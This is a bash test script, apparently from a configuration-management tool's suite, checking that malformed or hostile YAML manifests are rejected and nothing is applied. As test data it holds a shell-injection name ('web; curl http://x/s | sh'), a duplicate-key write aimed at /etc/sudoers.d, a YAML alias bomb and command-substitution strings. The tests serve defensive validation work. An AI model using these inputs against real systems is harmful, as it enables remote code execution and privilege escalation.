#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# Bad manifests (HARDENING M01-M08, M11): every problem reported as
# FILE:LINE:COL in one run, nothing applied, the last good revision stays.
# shellcheck disable=SC2016
. "$(dirname "$0")/lib.sh"

repo_init repo
good() {
	write_file "repo/$1.yaml" <<-Y
	apiVersion: driftless/v1
	kind: File
	metadata: {name: $1}
	spec: {path: /srv/$1, content: "$1\n", mode: "0644"}
	Y
}
good alpha
repo_commit repo good
mkdir -p "$ROOT/srv"

test_expect_success 'a good revision applies' '
	expect_exit 0 dl_apply repo &&
	test_cmp_text alpha "$ROOT/srv/alpha"
'

# reject FILE-CONTENT EXPECTED...: commit bad.yaml, expect validate and apply
# to fail with each EXPECTED string on stderr, and nothing to change.
reject() {
	local content=$1
	shift
	printf '%s\n' "$content" >repo/bad.yaml &&
	repo_commit repo "bad" &&
	before=$(find "$ROOT" -printf "%p %m %s %T@\n" | sort) &&
	test_must_fail dl validate --repo repo &&
	for want in "$@"; do expect_contains "$SCRATCH/stderr" "$want" || return 1; done &&
	test_must_fail dl_apply repo &&
	for want in "$@"; do expect_contains "$SCRATCH/stderr" "$want" || return 1; done &&
	expect_contains "$SCRATCH/stderr" "nothing was applied" &&
	after=$(find "$ROOT" -printf "%p %m %s %T@\n" | sort) &&
	test "$before" = "$after"
}

test_expect_success 'M05: an unquoted mode is an error with a hint' '
	reject "apiVersion: driftless/v1
kind: File
metadata: {name: m1}
spec: {path: /srv/m1, content: x, mode: 644}" \
	"bad.yaml:4:41: File/m1" "'\''mode'\'' must be a quoted octal string like \"0644\" (quote the mode: \"0644\")"
'

test_expect_success 'M05: YAML 1.1 octal, 0o644 and out-of-range modes are errors' '
	reject "apiVersion: driftless/v1
kind: File
metadata: {name: m2}
spec: {path: /srv/m2, content: x, mode: 0644}
---
apiVersion: driftless/v1
kind: File
metadata: {name: m3}
spec: {path: /srv/m3, content: x, mode: \"0o644\"}
---
apiVersion: driftless/v1
kind: File
metadata: {name: m4}
spec: {path: /srv/m4, content: x, mode: \"0648\"}" \
	"bad.yaml:4:41:" "bad.yaml:9:41:" "bad.yaml:14:41:"
'

test_expect_success 'M05: setuid bits are denied by local policy' '
	reject "apiVersion: driftless/v1
kind: File
metadata: {name: m5}
spec: {path: /srv/m5, content: x, mode: \"4755\"}" \
	"bad.yaml:4:41:" "denied by local policy rule '\''allowSetid'\''"
'

test_expect_success 'M06: every bad document is reported, not just the first' '
	for i in $(seq 1 20); do good "f$i"; done &&
	reject "apiVersion: driftless/v1
kind: Fiel
metadata: {name: a}
spec: {path: /srv/a}
---
apiVersion: driftless/v1
kind: File
metadata: {name: b}
spec: {pathh: /srv/b, content: x}
---
apiVersion: agent/v9
kind: File
metadata: {name: c}
spec: {path: /srv/c, content: x}" \
	"bad.yaml:2:7: document 1: unknown kind '\''Fiel'\''" \
	"bad.yaml:9:8: document 2: File/b: unknown field '\''spec.pathh'\'' for kind File" \
	"bad.yaml:11:13: document 3: '\''apiVersion'\'' must be '\''driftless/v1'\''" &&
	expect_missing "$ROOT/srv/f1"
'

test_expect_success 'M06: after the fix, everything applies' '
	git -C repo rm -q bad.yaml && repo_commit repo fixed &&
	expect_exit 0 dl_apply repo &&
	test_cmp_text f20 "$ROOT/srv/f20"
'

test_expect_success 'M04: duplicate keys are errors; case variants are unknown fields' '
	write_file repo/case.yaml <<-Y &&
	apiVersion: driftless/v1
	kind: File
	metadata: {name: d2}
	spec:
	  Path: /srv/d2
	  content: x
	Y
	reject "apiVersion: driftless/v1
kind: File
metadata: {name: d1}
spec:
  path: /srv/app.conf
  path: /etc/sudoers.d/evil
  content: x
  content: y" \
	"bad.yaml:6:3: duplicate key '\''path'\'' (first at line 5, column 3)" \
	"bad.yaml:8:3: duplicate key '\''content'\''" \
	"case.yaml:5:3: File/d2: unknown field '\''spec.Path'\''" &&
	expect_missing "$ROOT/etc/sudoers.d" &&
	git -C repo rm -q case.yaml
'

test_expect_success 'M01: an alias bomb is rejected quickly, without expansion' '
	{
	echo "apiVersion: driftless/v1"
	echo "kind: File"
	echo "metadata: {name: bomb}"
	echo "spec:"
	echo "  path: /srv/bomb"
	echo "  a: &a [x,x,x,x,x,x,x,x,x]"
	p=a; for n in b c d e f g h i; do echo "  $n: &$n [*$p,*$p,*$p,*$p,*$p,*$p,*$p,*$p,*$p]"; p=$n; done
	} >"$SCRATCH/bomb.yaml" &&
	reject "$(cat "$SCRATCH/bomb.yaml")" "bad.yaml:6:6:" "anchors and aliases are not allowed"
'

test_expect_success 'M02: 100000 levels of nesting are rejected cleanly' '
	reject "$(python3 -c "print(\"apiVersion: driftless/v1\nkind: File\nmetadata: {name: deep}\nspec: {path: /srv/deep, content: \" + \"[\" * 100000 + \"]\" * 100000 + \"}\")")" \
	"bad.yaml:4:"
'

test_expect_success 'M03: an oversized manifest is refused before parsing' '
	python3 -c "import sys; sys.stdout.write(\"# \" + \"x\" * (9 << 20) + \"\n\")" >repo/huge.yaml &&
	repo_commit repo huge &&
	test_must_fail dl_apply repo &&
	expect_contains "$SCRATCH/stderr" "huge.yaml: manifest is" &&
	expect_contains "$SCRATCH/stderr" "more than the limit" &&
	git -C repo rm -q huge.yaml && repo_commit repo "no huge"
'

test_expect_success 'M03: too many documents in one file are refused' '
	python3 -c "
for i in range(10001): print(\"---\nfoo: %d\" % i)" >repo/many.yaml &&
	repo_commit repo many &&
	test_must_fail dl_apply repo &&
	expect_contains "$SCRATCH/stderr" "more than 10000 documents" &&
	git -C repo rm -q many.yaml && repo_commit repo "no many"
'

test_expect_success 'M07: duplicate names and paths after normalisation' '
	reject "apiVersion: driftless/v1
kind: File
metadata: {name: alpha}
spec: {path: /srv/x, content: x}
---
apiVersion: driftless/v1
kind: File
metadata: {name: p1}
spec: {path: /srv//alpha, content: x}
---
apiVersion: driftless/v1
kind: File
metadata: {name: p2}
spec: {path: /srv/./f1/, content: x}" \
	"duplicate resource File/alpha (first declared at alpha.yaml:1:1)" \
	"'\''path'\'' '\''/srv/alpha'\'' is also managed by File/alpha" \
	"'\''/srv/f1'\'' is also managed by"
'

test_expect_success 'M07: a dependency cycle is named in full; a missing reference too' '
	reject "apiVersion: driftless/v1
kind: File
metadata: {name: ca}
spec: {path: /srv/ca, content: x, dependsOn: [File/cb]}
---
apiVersion: driftless/v1
kind: File
metadata: {name: cb}
spec: {path: /srv/cb, content: x, dependsOn: [File/cc]}
---
apiVersion: driftless/v1
kind: File
metadata: {name: cc}
spec: {path: /srv/cc, content: x, dependsOn: [File/ca]}
---
apiVersion: driftless/v1
kind: File
metadata: {name: cd}
spec: {path: /srv/cd, content: x, dependsOn: [Directory/nonexistent]}" \
	"dependency cycle: File/ca -> File/cb -> File/cc -> File/ca" \
	"bad.yaml:19:47: File/cd: '\''dependsOn'\'' names Directory/nonexistent, which is not declared"
'

test_expect_success 'M08: control characters, NUL, invisible and combining characters' '
	reject "apiVersion: driftless/v1
kind: File
metadata: {name: h1}
spec: {path: \"/srv/app.conf\\0.bak\", content: x}
---
apiVersion: driftless/v1
kind: File
metadata: {name: h2}
spec: {path: \"/srv/x\\r\", content: x}
---
apiVersion: driftless/v1
kind: File
metadata: {name: h3}
spec: {path: \"/srv/\\u200bops\", content: x}
---
apiVersion: driftless/v1
kind: File
metadata: {name: h4}
spec: {path: \"/srv/cafe\\u0301\", content: x, owner: \"deploy\\n\"}
---
apiVersion: driftless/v1
kind: File
metadata: {name: h5}
spec: {path: /srv/h5, content: x, owner: \"r\\u043e\\u043et\"}" \
	"NUL byte (U+0000)" "control character U+000D" "character U+200B" "character U+0301" \
	"'\''owner'\'' must be a number or a name"
'

test_expect_success 'M11: option-like owners and shell text are refused; nothing executes' '
	reject "apiVersion: driftless/v1
kind: File
metadata: {name: i1}
spec: {path: /srv/i1, content: x, owner: \"-o\"}
---
apiVersion: driftless/v1
kind: File
metadata: {name: \"web; curl http://x/s | sh\"}
spec: {path: /srv/i2, content: x}" \
	"'\''owner'\'' must be a number or a name" "'\''metadata.name'\'' must match"
'

test_expect_success 'M11: template-looking values are written literally, never evaluated' '
	git -C repo rm -q bad.yaml &&
	write_file repo/tpl.yaml <<-\Y &&
	apiVersion: driftless/v1
	kind: File
	metadata: {name: tpl}
	spec: {path: /srv/tpl, content: "{{ lookup(\"pipe\",\"id\") }} $(id) ${HOME}\n"}
	Y
	repo_commit repo tpl &&
	expect_exit 0 dl_apply repo &&
	test_cmp_text "{{ lookup(\"pipe\",\"id\") }} \$(id) \${HOME}" "$ROOT/srv/tpl"
'

test_expect_success 'anchors, tags and non-mapping documents are errors' '
	printf -- "- just\n- a list\n" >repo/list.yaml &&
	reject "apiVersion: driftless/v1
kind: !!str File
metadata: &m {name: t1}
spec: {path: /srv/t1, content: x}" "bad.yaml:2:7: tags are not allowed" \
	"bad.yaml:3:11: anchors and aliases are not allowed" \
	"list.yaml:1:1: a manifest document must be a mapping" &&
	git -C repo rm -q list.yaml
'

test_expect_success 'status shows the rejected revision and the last good one' '
	head=$(repo_head repo) &&
	expect_exit 0 dl status --state "$STATE" -o json &&
	python3 -c "
import json,sys
d=json.load(open(sys.argv[1]))
assert d[\"lastAttemptedRevision\"]==sys.argv[2], d
assert d[\"rejectedRevision\"]==sys.argv[2], d
assert d[\"lastAppliedRevision\"]!=sys.argv[2], d
" "$SCRATCH/stdout" "$head"
'

test_expect_success 'validate prints manifests OK on a good revision' '
	git -C repo rm -q bad.yaml && repo_commit repo fixed2 &&
	expect_exit 0 dl validate --repo repo &&
	expect_contains stdout "manifests OK"
'

test_expect_success 'validate DIR checks the working copy, uncommitted edits included' '
	expect_exit 0 dl validate repo &&
	expect_contains stdout "manifests OK" &&
	sed -i "s/mode: \"0644\"/mode: 0644/" repo/alpha.yaml &&
	test_must_fail dl validate repo &&
	expect_contains "$SCRATCH/stderr" "alpha.yaml:4:" &&
	git -C repo checkout -q alpha.yaml &&
	mkdir -p plain/hosts && cp repo/alpha.yaml plain/hosts/ &&
	expect_exit 0 dl validate plain &&
	expect_exit 0 dl validate --path hosts plain &&
	expect_exit 64 dl validate does-not-exist
'

test_done
